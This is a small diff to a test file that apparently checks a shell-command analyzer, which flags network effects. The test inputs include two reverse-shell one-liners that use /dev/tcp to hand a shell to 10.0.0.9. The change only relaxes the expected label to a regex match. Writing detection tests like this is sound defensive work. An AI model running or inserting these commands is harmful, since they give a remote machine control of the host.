@@ -35,7 +35,7 @@ describe('redirections', () => {
     ['exec 5<> /dev/tcp/10.0.0.9/443; sh <&5 >&5'],
     ['0<&196; exec 196<> /dev/tcp/10.0.0.9/443; bash <&196 >&196 2>&196'],
   ])('%s hands a shell to another machine', (text) => {
-    expect(effectsOf(text)).toContain('net.request raw-socket reverse-shell');
+    expect(effectsOf(text)).toContainEqual(expect.stringMatching(/^net\.request .*raw-socket reverse-shell$/));
   });
 });
 
